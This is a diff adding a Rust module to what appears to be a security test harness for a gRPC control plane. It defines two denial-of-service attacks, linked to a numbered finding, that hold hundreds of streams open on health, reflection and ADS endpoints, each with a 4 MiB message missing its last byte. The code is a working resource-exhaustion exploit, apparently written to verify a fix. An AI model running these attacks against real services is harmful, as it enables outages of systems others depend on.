@@ -1,0 +1,105 @@
+//! Messages that never end.
+
+use std::sync::Arc;
+
+use anyhow::Result;
+use bytes::Bytes;
+use futures::FutureExt;
+use futures::stream::{FuturesUnordered, StreamExt};
+use pilotfish_proto::ResourceType;
+
+use crate::attacks::crowd;
+use crate::door::{DELTA, Door, SOTW};
+use crate::wire::{Node, delta, incomplete, sotw};
+use crate::{Attack, Counts, Deadline, Tally, Target};
+
+pub(super) const ATTACKS: &[Attack] = &[
+    Attack {
+        name: "incomplete-calls",
+        what: "400 streams a connection of health and reflection that each send 4 MiB but for the last byte, on both ports (finding 3)",
+        run: |target, deadline| calls(target, deadline).boxed(),
+    },
+    Attack {
+        name: "incomplete-requests",
+        what: "The same by ADS streams, before a node and after it, with a certificate and without (finding 3)",
+        run: |target, deadline| requests(target, deadline).boxed(),
+    },
+];
+
+/// Streams that a connection opens at a time.
+const STREAMS: usize = 400;
+const SAID: u32 = 4 << 20;
+const PATHS: [&str; 4] = [
+    "/grpc.health.v1.Health/Check",
+    "/grpc.health.v1.Health/Watch",
+    "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
+    "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo",
+];
+
+/// Opens streams, sends on each what `first` says and then the beginning of a message, and holds them until they are ended.
+async fn hold(
+    door: &Door,
+    path: &str,
+    first: Option<Vec<u8>>,
+    beginning: &Bytes,
+    counts: &Arc<Counts>,
+) -> Result<()> {
+    let mut client = door.connect().await?;
+    let mut ended = FuturesUnordered::new();
+    for _ in 0..STREAMS {
+        let mut stream = client.open(path, &[]).await?;
+        if let Some(first) = &first {
+            stream.send(first)?;
+        }
+        stream.send_raw(beginning.clone())?;
+        counts.sent(beginning.len());
+        let counts = counts.clone();
+        ended.push(async move {
+            loop {
+                match stream.next().await {
+                    Ok(_) => counts.answered(),
+                    Err(words) => return counts.refused(words),
+                }
+            }
+        });
+    }
+    while ended.next().await.is_some() {}
+    Ok(())
+}
+
+async fn calls(target: Arc<Target>, deadline: Deadline) -> Result<Tally> {
+    let (counts, doors) = (Counts::new(), [Door::plaintext(&target), Door::nameless(&target)?]);
+    let (shared, beginning) = (counts.clone(), incomplete(SAID, SAID as usize - 1));
+    crowd(8, deadline, &counts, move |index| {
+        let (counts, doors, beginning) = (shared.clone(), doors.clone(), beginning.clone());
+        async move {
+            let [plain, secret] = &doors;
+            let door = if index % 2 == 0 { plain } else { secret };
+            let path = PATHS.get(index / 2 % PATHS.len()).copied().unwrap_or_default();
+            hold(door, path, None, &beginning, &counts).await
+        }
+    })
+    .await;
+    Ok(counts.tally())
+}
+
+async fn requests(target: Arc<Target>, deadline: Deadline) -> Result<Tally> {
+    let counts = Counts::new();
+    let doors = [Door::plaintext(&target), Door::known(&target)?, Door::nameless(&target)?];
+    let (shared, beginning) = (counts.clone(), incomplete(SAID, SAID as usize - 1));
+    crowd(12, deadline, &counts, move |index| {
+        let (counts, doors, beginning) = (shared.clone(), doors.clone(), beginning.clone());
+        async move {
+            let Some(door) = doors.get(index % 3) else { return Ok(()) };
+            let (node, url) = (Node::numbered(index), ResourceType::Endpoint.type_url());
+            let (path, first) = match index / 3 % 2 {
+                0 => (DELTA, delta(Some(&node), url, &["x".to_owned()], &[])),
+                _ => (SOTW, sotw(Some(&node), url, &["x".to_owned()])),
+            };
+            let first = (index >= 6).then_some(first);
+            hold(door, path, first, &beginning, &counts).await
+        }
+    })
+    .await;
+    Ok(counts.tally())
+}
